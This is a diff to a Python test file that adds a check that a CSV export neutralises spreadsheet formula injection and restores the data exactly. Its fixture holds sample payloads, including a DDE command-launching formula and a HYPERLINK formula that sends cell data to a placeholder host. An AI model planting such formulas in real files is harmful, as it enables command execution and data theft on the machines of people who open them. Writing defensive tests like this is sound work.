@@ -8,6 +8,7 @@ every true card is exported byte for byte, and every other row is refused by nam
 from __future__ import annotations
 
 import asyncio
+import csv
 import hashlib
 import json
 import os
@@ -456,3 +457,33 @@ async def test_an_export_to_a_text_stream_is_refused_before_anything_is_read(tmp
         await store.create("text")
         with pytest.raises(ValidationError, match="binary stream"):
             await export(store, io.StringIO(), format="jsonl", progress=False)
+
+
+FORMULAS = {"=cmd|' -C calc'!A1.txt": '=HYPERLINK("http://example.invalid/?"&A1,"click")',
+            "+1+1.txt": "+SUM(1,2)", "-2.txt": "-2+3", "@SUM(A1).txt": "@SUM(A1)", "'=quoted.txt": "'=1+1",
+            "'plain.txt": "'plain"}
+"""File names and texts that a spreadsheet opening a CSV runs as formulas, and texts that a
+quote already starts."""
+
+
+def test_a_csv_export_opened_in_a_spreadsheet_runs_no_formula_and_restores_exactly(tmp_path):
+    source = tmp_path / "files"
+    source.mkdir()
+    for name, text in FORMULAS.items():
+        (source / name).write_text(text)
+    db, out = tmp_path / "cards.db", tmp_path / "cards.csv"
+    mcard("import", str(source), db=db)
+    mcard("export", str(out), db=db)
+    with out.open(newline="") as file:
+        rows = list(csv.DictReader(file))
+    cells = [row[field] for row in rows for field in ("name", "content")]
+    assert len(cells) == 2 * len(FORMULAS) and not [cell for cell in cells if cell[0] in "=+-@"]
+    assert {row["name"]: row["content"] for row in rows}["''=quoted.txt"] == "''=1+1"
+    copy = tmp_path / "copy.db"
+    mcard("import", "--records", str(out), db=copy)
+    listed = json.loads(mcard("ls", "--json", db=copy).stdout)
+    assert {card["name"] for card in listed} == set(FORMULAS)
+    with sqlite3.connect(copy) as raw:
+        contents = {bytes(row[0]).decode() for row in raw.execute("SELECT content FROM card")}
+    raw.close()
+    assert contents == set(FORMULAS.values())
